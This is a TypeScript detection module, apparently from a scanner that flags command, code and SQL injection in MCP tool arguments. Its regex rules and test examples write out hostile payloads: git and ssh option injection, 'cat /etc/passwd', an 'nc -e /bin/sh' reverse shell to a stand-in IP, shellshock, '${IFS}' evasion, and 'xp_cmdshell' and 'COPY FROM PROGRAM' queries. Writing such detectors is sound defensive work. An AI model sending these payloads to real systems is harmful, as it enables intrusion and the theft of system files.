/** Values that run a program by other means than a separator: options, whole commands, code, shell tricks, SQL. */
import { excerpt } from '../../parse/excerpt.ts';
import type { Rule, Sighting } from '../../rule.ts';
import { firstProgram, hasSubcommand } from './breakout.ts';
import { doesGraveHarm } from './injected.ts';
import type { Value } from './value.ts';

const matches =
  (pattern: RegExp, bearings: readonly Value['bearing'][]) =>
  (value: Value): Sighting | undefined => {
    if (!bearings.includes(value.bearing)) return undefined;
    for (const reading of value.readings) {
      const found = pattern.exec(reading);
      if (found !== null) {
        return { field: value.field.pointer, excerpt: excerpt(reading, found.index, found.index + found[0].length) };
      }
    }
    return undefined;
  };

/** One pattern of many, each named by what it recognises. */
const either = (patterns: Readonly<Record<string, RegExp>>): RegExp =>
  new RegExp(
    Object.values(patterns)
      .map(({ source }) => `(?:${source})`)
      .join('|'),
    'i',
  );

/** Options of common programs that name a program to run, a file to write or a host's root to mount. */
const OPTION = either({
  git: /(?:^|[\s"'=])--(?:upload-pack|receive-pack|exec|config-env|open-files-in-pager|pager)=/,
  gitConfig: /(?:^|\s)-c\s{1,3}(?:core\.(?:sshCommand|pager|editor|fsmonitor|gitProxy)|protocol\.ext\.allow|alias\.\w{1,20})=/,
  gitTransport: /(?:^|[\s"'=])ext::\S{1,64}[\s%]/,
  ssh: /(?:^|[\s"'=])-o\s{0,3}["']?ProxyCommand\s{0,3}=/,
  tarAndRsync: /(?:^|[\s"'=])--(?:checkpoint-action|to-command|use-compress-program|rsh|rsync-path)=/,
  wgetAndCurl: /(?:^|[\s"'=])--(?:use-askpass|post-file|netrc-file)=/,
  browsers: /(?:^|[\s"'=])--(?:gpu-launcher|renderer-cmd-prefix)=/,
  writesFile: /(?:^|[\s"'=])(?:--output=|-o["'\s]{1,3})(?:\/(?:etc|root|home|var|usr|tmp)\/|\|)|(?:^|\s)-o["']\|/,
  findAndNetcat: /(?:^|\s)-(?:exec|execdir|e)\s{1,3}(?:\/bin\/)?(?:ba)?sh\b|(?:^|\s)-exec(?:dir)?\s{1,3}[\w/]{1,40}\s/,
  containers: /(?:^|\s)(?:--privileged\b|-v\s?\/:\/)/,
});

export const argumentInjection: Rule<Value> = {
  id: 'CI-ARGUMENT-INJECTION',
  title: 'A value is an option that makes a program run another',
  why: 'The server passes it as a plain argument, and the program it calls obeys it as an option.',
  techniques: ['OWASP-MCP05', 'SAFE-T1101', 'ATT&CK T1202'],
  risk: 80,
  find: matches(OPTION, ['strict', 'loose', 'url']),
  examples: {
    alerts: [
      { tool: 'git_clone', arguments: { repo: '--upload-pack=touch /tmp/x' } },
      { tool: 'git_clone', arguments: { url: 'ext::sh -c touch% /tmp/x' } },
      { tool: 'connect', arguments: { host: '-oProxyCommand=id' } },
    ],
    passes: [
      { tool: 'git_clone', arguments: { url: 'https://example.com/exec=1/app.git' } },
      { tool: 'git_log', arguments: { branch: 'feature/--output-format' } },
    ],
  },
};

/** The whole value is a command, in a field that holds a name. */
const wholeCommand = (value: Value): Sighting | undefined => {
  if (value.bearing !== 'strict' && value.bearing !== 'loose') return undefined;
  for (const reading of value.readings) {
    const first = firstProgram(reading);
    if (first === undefined || !/^\s/.test(first.behind.replace(/^["']/, ''))) continue;
    const program = first.certainty;
    const instructs = INSTRUCTS.test(first.behind) || (value.field.role !== 'path' && hasSubcommand(first));
    const becomesRoot = /^(?:sudo|doas|pkexec)$/i.test(first.program) && runsSomething(first.behind);
    const alone = program === 'sure' || (program === 'common' && ALONE.has(first.program.toLowerCase()));
    const told = value.bearing === 'strict' ? becomesRoot || (alone && instructs) : doesGraveHarm(reading);
    if (told) {
      return { field: value.field.pointer, excerpt: excerpt(reading, 0, first.end), detail: first.program.slice(0, 60) };
    }
  }
  return undefined;
};

/** Arguments that no name has: options, switches, paths, addresses, quotes. */
const INSTRUCTS =
  /^["']?\s+(?:-{1,2}[A-Za-z?]|\/[A-Za-z?]{1,12}(?:\s|$)|[~.]{0,2}\/|[A-Za-z]:\\|%\w+%|\$[\w({]|["'`]|\\\\|[a-z]{3,5}:\/\/|\d{1,3}(?:\.\d{1,3}){3}\b|[\w.]{1,64}\/[\w.]|\d{1,5}(?:\s|;|$))/;
const ALONE = new Set('cat type ping id ls dir echo rm del sleep sh env kill find net chmod touch tail head more'.split(' '));

const runsSomething = (behind: string): boolean => {
  const next = firstProgram(behind.trimStart());
  return next !== undefined && (next.certainty !== 'unknown' || /^-[a-zA-Z]/.test(next.program));
};

export const bareCommand: Rule<Value> = {
  id: 'CI-BARE-COMMAND',
  title: 'A command stands where a name belongs',
  why: 'Nobody looks up such a name: somebody tries whether the server runs what it is given.',
  techniques: ['OWASP-MCP05', 'SAFE-T1101', 'ATT&CK T1059'],
  risk: 70,
  find: wholeCommand,
  examples: {
    alerts: [
      { tool: 'get_alerts', arguments: { state: 'sudo su' } },
      { tool: 'get_weather', arguments: { city: 'cat /etc/passwd' } },
      { tool: 'ping', arguments: { host: 'nc -e /bin/sh 203.0.113.9 4444' } },
    ],
    passes: [
      { tool: 'install_package', arguments: { name: 'curl' } },
      { tool: 'get_weather', arguments: { city: 'Sudbury' } },
      { tool: 'search', arguments: { query: 'sudo rm permission denied' } },
      { tool: 'list_courses', arguments: { category: 'python basics' } },
    ],
  },
};

/** Forms that exist only to get a command past a filter, or into a program that evaluates text. */
const TRICK = either({
  shellshock: /\(\)\s{0,4}\{[^}]{0,24}\}\s{0,4};/,
  blankless: /\$\{IFS[%:}]|\$IFS\b|\{(?:cat|ls|nc|curl|wget|echo|bash|sh|ping|id),[^}\s]{1,64}\}|\bcat<[/<]/,
  sliced: /\$\{(?:HOME|PATH|PWD):\d|\$\{\w{1,16}\/\/?[^}]{1,40}\}|%(?:CommonProgramFiles|ProgramFiles|Path|OS):~/,
  wildcards: /\/\?{2,3}\//,
  escaped: /\$'[^']{0,40}\\x[0-9a-f]{2}/,
  readsFile: /\$\(\s?<\s?[\w/.~]|`\s?<\s?[/~]/,
  socket: /\/dev\/tcp\/[\w.]{1,64}\/\d/,
  serverSideInclude: /<!--\s?#\s?exec\s/,
  evaluated: /\$\{@?\s?(?:print|system|eval|exec|phpinfo|sleep|passthru|shell_exec)\s?\(|\{\$\{\s?\w{1,32}\s?\(|<\?php\s/,
  windows: /%comspec%|%systemroot%\\system32/,
});

/** Output into, or input from, a system folder. */
const REDIRECT = /[^\s<>=-]\s?(?:>{1,2}|<)\s?\/(?:etc|tmp|dev|var|root|home|proc)\/\w/;

export const shellTrick: Rule<Value> = {
  id: 'CI-SHELL-TRICK',
  title: 'A value holds a form that exists only to reach a shell',
  why: 'Such writing slips a command past a filter; no ordinary value contains it.',
  techniques: ['OWASP-MCP05', 'SAFE-T1101', 'ATT&CK T1027.010'],
  risk: 80,
  find: (value) => matches(TRICK, ['strict', 'loose', 'url'])(value) ?? matches(REDIRECT, ['strict'])(value),
  examples: {
    alerts: [
      { tool: 'ping', arguments: { host: 'x;cat${IFS}/etc/hosts' } },
      { tool: 'get_page', arguments: { host: '() { :; }; /bin/id' } },
      { tool: 'lookup', arguments: { city: '{cat,/etc/passwd}' } },
    ],
    passes: [
      { tool: 'deploy', arguments: { image: 'registry.example.com/app:$' + '{VERSION}' } },
      { tool: 'search_files', arguments: { path: '/srv/app', pattern: '*.{ts,js}' } },
    ],
  },
};

/** Program text whose one use is to start a process. */
const CODE = either({
  php: /(?:^|[^\w.])(?:system|exec|shell_exec|passthru|popen|proc_open|eval|phpinfo|phpversion|phpcredits)\s?\(.{0,200}\)/,
  phpInput: /\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b\s?\[/,
  python: /\bos\.(?:system|popen)\s?\(|\bsubprocess\.\w{3,12}\s?\(|__import__\s?\(/,
  node: /require\(["'](?:node:)?child_process["']\)/,
  java: /Runtime\.getRuntime\s?\(/,
});

export const codeCall: Rule<Value> = {
  id: 'CI-CODE-CALL',
  title: 'A value holds program text that starts a process',
  why: 'A server that evaluates the value runs the attacker’s code.',
  techniques: ['OWASP-MCP05', 'SAFE-T1101', 'ATT&CK T1059'],
  risk: 75,
  find: matches(CODE, ['strict', 'loose']),
  examples: {
    alerts: [
      { tool: 'get_weather', arguments: { city: "');system('id');//" } },
      { tool: 'lookup', arguments: { id: "__import__('os').system('id')" } },
    ],
    passes: [
      { tool: 'get_weather', arguments: { city: 'Villa Eval North' } },
      { tool: 'run_code', arguments: { code: "import os; os.system('ls')" } },
    ],
  },
};

const SQL = either({
  sqlServer: /\bxp_cmdshell\b\s{0,8}['"(@N]|\bsp_oacreate\b/,
  postgres: /\bcopy\b.{0,200}\b(?:from|to)\s{1,8}program\b/,
  mysql: /\bsys_(?:exec|eval)\s{0,4}\(|\binto\s{1,8}(?:out|dump)file\b/,
  oracle: /\bdbms_scheduler\b.{0,200}executable/,
  sqlite: /\bload_extension\s{0,4}\(/,
});

export const sqlShell: Rule<Value> = {
  id: 'CI-SQL-SHELL',
  title: 'A query starts a program on the database’s machine',
  why: 'The database runs it with the rights of its own account.',
  techniques: ['OWASP-MCP05', 'ATT&CK T1505.001'],
  risk: 80,
  find: matches(SQL, ['sql', 'strict', 'loose']),
  examples: {
    alerts: [
      { tool: 'execute_sql', arguments: { sql: "EXEC xp_cmdshell 'whoami'" } },
      { tool: 'run_sql', arguments: { sql: "COPY t FROM PROGRAM 'id'" } },
    ],
    passes: [
      { tool: 'execute_sql', arguments: { sql: "SELECT id; SELECT type FROM t WHERE cmd = 'a | b'" } },
      { tool: 'execute_sql', arguments: { sql: "COPY t FROM '/srv/data.csv' CSV" } },
    ],
  },
};
